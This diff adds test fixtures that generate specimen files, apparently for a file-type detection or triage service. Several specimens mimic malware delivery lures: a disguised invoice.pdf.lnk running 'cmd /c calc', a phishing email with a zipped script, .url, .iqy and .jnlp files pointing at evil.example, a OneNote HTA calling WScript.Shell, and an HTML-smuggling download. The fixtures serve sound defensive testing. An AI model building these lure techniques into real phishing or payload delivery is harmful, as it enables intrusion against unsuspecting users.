@@ -10,6 +10,7 @@ from __future__ import annotations
 import io
 import struct
 from collections.abc import Iterable
+from dataclasses import dataclass
 
 import cabarchive
 import pycdlib
@@ -202,3 +203,93 @@ def append_to_image(kind: str, payload: bytes) -> bytes:
     out = io.BytesIO()
     Image.new("RGB", (16, 16), (200, 30, 30)).save(out, format=kind)
     return out.getvalue() + payload
+
+
+def make_dmg(payload: bytes = bytes(range(256)) * 64) -> bytes:
+    """An Apple disk image's shape: zlib-compressed blocks, the XML property list, the 512-byte
+    `koly` trailer. libmagic sees only "zlib compressed data"; magika knows it."""
+    import zlib
+
+    plist = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN">\n'
+             b'<plist version="1.0"><dict><key>resource-fork</key><dict><key>blkx</key><array><dict>'
+             b'<key>Data</key><data>bWlzaA==</data></dict></array></dict></dict></plist>\n')
+    body = zlib.compress(payload)
+    koly = b"koly" + struct.pack(">IIIQQQQQ", 4, 512, 1, 0, 0, len(body), len(body), len(plist))
+    return body + plist + koly.ljust(512, b"\0")
+
+
+@dataclass(frozen=True)
+class Specimen:
+    """One file of a format, with the type it must get and whether a service should open it."""
+
+    format: str
+    name: str
+    data: bytes
+    expected: str
+    container: bool  # something should come out of it (children or URI samples)
+
+
+def specimens() -> list[Specimen]:
+    """The issue 14 formats, one specimen or more each, built now (about 1 MB in all)."""
+    from PIL import Image
+
+    def image(fmt: str) -> bytes:
+        out = io.BytesIO()
+        Image.new("RGB", (32, 32), (10, 120, 200)).save(out, format=fmt)
+        return out.getvalue()
+
+    import base64
+    from pathlib import Path
+
+    import pip._vendor.distlib
+
+    launcher = (Path(pip._vendor.distlib.__file__).parent / "t64.exe").read_bytes()
+    cab = make_cab({"setup.exe": b"MZ" + bytes(300), "readme.txt": b"hello"})
+    zipped = io.BytesIO()
+    import zipfile
+
+    with zipfile.ZipFile(zipped, "w") as zf:
+        zf.writestr("payload.js", "WScript.Echo(1)")
+    eml = (b"From: Billing <billing@evil.example>\nTo: v@victim.example\nSubject: invoice\nMIME-Version: 1.0\n"
+           b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nThe password is: Inv2026x\n"
+           b"--b\nContent-Type: application/zip\nContent-Disposition: attachment; filename=inv.zip\n"
+           b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(zipped.getvalue()) + b"--b--\n")
+    one = make_onenote([b'<hta:application/><script language="VBScript">CreateObject("WScript.Shell")</script>'])
+    return [
+        Specimen("ISO 9660 + Joliet", "delivery.iso", make_iso({"invoice.pdf.lnk": make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc")}), "archive/iso", True),
+        Specimen("ISO 9660 + UDF", "delivery-udf.iso", make_iso({"a.txt": b"udf"}, udf=True), "archive/iso", True),
+        Specimen("CAB (MSZIP)", "update.cab", cab, "archive/cab", True),
+        Specimen("MSI", "setup.msi", make_msi(cab, {"CustomAction": b"MZ dll"}), "document/installer/windows", True),
+        Specimen("cpio", "initrd.cpio", make_cpio([("bin/sh", b"#!/bin/sh\n", 0o100755)]), "archive/cpio", True),
+        Specimen(".deb", "helper.deb", make_deb({"./usr/bin/helper": b"#!/bin/sh\n"}), "archive/deb", True),
+        Specimen("ar", "lib.a", libarchive_write("ar_svr4", [("a.o", b"\x7fELF object")]), "archive/ar", True),
+        Specimen("DMG", "app.dmg", make_dmg(), "archive/dmg", False),
+        Specimen("e-mail (.eml)", "invoice.eml", eml, "text/email", True),
+        Specimen("Outlook (.msg)", "invoice.msg", make_msg("From: a@evil.example\nSubject: x\n", "see", "<p>x</p>",
+                                                            {"a.lnk": b"L\0\0\0"}), "document/office/email", True),
+        Specimen("LNK", "invoice.pdf.lnk", make_lnk(r"C:\Windows\System32\cmd.exe", "/c calc.exe -testCommands",
+                                                   machine_id="desktop-1"), "shortcut/windows", False),
+        Specimen(".url", "open.url", b"[InternetShortcut]\r\nURL=https://evil.example/x.hta\r\n", "shortcut/web", True),
+        Specimen(".iqy", "q.iqy", b"WEB\r\n1\r\nhttps://evil.example/q\r\n", "shortcut/iqy", True),
+        Specimen(".settingcontent-ms", "s.settingcontent-ms",
+                 b'<?xml version="1.0"?>\n<PCSettings><DeepLink>cmd /c calc</DeepLink></PCSettings>', "shortcut/settingcontent", False),
+        Specimen(".jnlp", "app.jnlp", b'<?xml version="1.0"?>\n<jnlp codebase="http://evil.example/"><jar href="a.jar"/></jnlp>',
+                 "shortcut/jnlp", True),
+        Specimen("OneNote", "lure.one", one, "document/office/onenote", True),
+        Specimen("HTML smuggling", "page.html",
+                 b"<html><script>var d='" + base64.b64encode(zipped.getvalue()) + b"';var b=new Blob([atob(d)]);"
+                 b"a.download='inv.zip';</script></html>", "code/html", True),
+        Specimen("PE + zip overlay", "dropper.exe", launcher + zipped.getvalue(), "executable/windows/pe64", True),
+        Specimen("PE appended to PNG", "cat.png", append_to_image("PNG", launcher), "image/png", True),
+        Specimen("RAR appended to JPEG", "cat.jpg", append_to_image("JPEG", b"Rar!\x1a\x07\x01\x00" + bytes(64)), "image/jpeg", True),
+        Specimen("base64 PE in text", "payload.txt", base64.encodebytes(launcher), "text/plain", True),
+        Specimen("PyInstaller", "frozen.exe", make_pyinstaller(launcher, {"main": b"c\0\0\0"}), "executable/windows/pe64", True),
+        Specimen("WebP", "a.webp", image("WEBP"), "image/webp", False),
+        Specimen("ICO", "a.ico", image("ICO"), "image/icon", False),
+        Specimen("pcap", "a.pcap", bytes.fromhex("D4C3B2A1020004000000000000000000FFFF000001000000"), "network/tcpdump", False),
+        Specimen("pcapng", "a.pcapng", bytes.fromhex("0A0D0D0A1C0000004D3C2B1A01000000FFFFFFFFFFFFFFFF1C000000"),
+                 "network/tcpdump", False),
+        Specimen("GPG message", "m.gpg", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA5\n-----END PGP MESSAGE-----\n", "document/pgp", False),
+        Specimen("VHDX", "disk.vhdx", b"vhdxfile" + bytes(4096), "archive/vhdx", False),
+        Specimen("VHD (dynamic)", "disk.vhd", b"conectix" + bytes(504), "archive/vhd", False),
+    ]
